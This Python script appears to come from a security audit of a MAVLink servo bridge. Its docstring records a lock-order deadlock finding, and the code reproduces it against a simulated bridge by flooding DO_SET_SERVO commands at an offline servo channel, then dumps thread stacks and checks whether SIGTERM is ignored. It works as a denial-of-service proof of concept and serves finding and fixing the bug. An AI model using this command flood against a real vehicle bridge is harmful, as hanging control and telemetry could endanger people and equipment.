"""Finding: lock-order inversion between ServoBackend._lock and MavlinkSide._lock hangs the
whole bridge (no heartbeat, no ACK, --duration never ends, SIGTERM ignored).

bridge-tick: ServoBackend.tick holds ServoBackend._lock -> _pause_offline -> Bridge._event ->
MavlinkSide.announce waits for MavlinkSide._lock; mavlink-tick: MavlinkSide._tick_loop holds
MavlinkSide._lock -> core.tick -> Telemetry.periodic -> ServoBackend.servo_statuses waits for
ServoBackend._lock.

Trigger from outside: DO_SET_SERVO to a channel with max_slew_dps whose servo is offline
(here: sim.yaml's aileron, channel 1, with the simulated servo silent), repeated with changing
PWM. Each command makes one _pause_offline call; the race is won within seconds.

Usage: python attack/a10b_deadlock.py [rate_hz] [max_seconds] [only1]
(only1: every command to the flapping servo's channel 1)
"""

from __future__ import annotations

import subprocess
import sys
import time

from harness import BridgeProc, collect, peer

ONLY_AILERON = "only1" in sys.argv


def main() -> None:
    rate = float(sys.argv[1]) if len(sys.argv) > 1 else 200
    max_s = float(sys.argv[2]) if len(sys.argv) > 2 else 30
    bridge = BridgeProc("cfg_silent.yaml", duration=max_s + 10)
    bridge.wait_ready()
    gcs = peer(bridge.port)
    gcs.mav.heartbeat_send(6, 8, 0, 0, 4)
    time.sleep(1.5)  # the silent servo is declared offline
    t0 = time.monotonic()
    last_heard = time.monotonic()
    sent = 0
    hung_at = None
    for i in range(int(rate * max_s / 20)):
        # 1 command in 20 to the flapping slew-limited servo, the rest keep the MAVLink side's
        # lock busy (other channels, each a change, so never a retry)
        for k in range(20):
            channel = 1 if k == 0 or ONLY_AILERON else (2, 4)[k % 2]
            gcs.mav.command_long_send(
                1, 140, 183, 0, channel, 1100 + ((i + k) % 2) * 800, 0, 0, 0, 0, 0
            )
            sent += 1
        if collect(gcs, 20.0 / rate):
            last_heard = time.monotonic()
        if time.monotonic() - last_heard > 3.0:
            hung_at = last_heard - t0
            break
    if hung_at is None:
        print(f"no hang after {sent} commands in {time.monotonic() - t0:.1f} s")
        bridge.finish(timeout=60)
        return
    print(
        f"HANG: nothing from the bridge since t={hung_at:.1f} s after {sent} commands "
        f"at {rate:.0f}/s (pid {bridge.proc.pid})"
    )
    time.sleep(max_s + 12 - (time.monotonic() - t0))  # past its --duration
    print("still running past --duration:", bridge.proc.poll() is None)
    dump = subprocess.run(
        [sys.executable.replace("python", "py-spy"), "dump", "--pid", str(bridge.proc.pid)],
        capture_output=True,
        text=True,
        timeout=30,
    )
    lines = dump.stdout.splitlines()
    for i, ln in enumerate(lines):
        if any(n in ln for n in ('"bridge-tick"', '"mavlink-tick"', '"mavlink-rx"')):
            print("\n".join(lines[i : i + 4]))
    bridge.proc.terminate()
    try:
        bridge.proc.wait(5)
        print("exited on SIGTERM")
    except subprocess.TimeoutExpired:
        print("SIGTERM ignored for 5 s; SIGKILL")
        bridge.proc.kill()
        bridge.proc.wait(5)


if __name__ == "__main__":
    main()
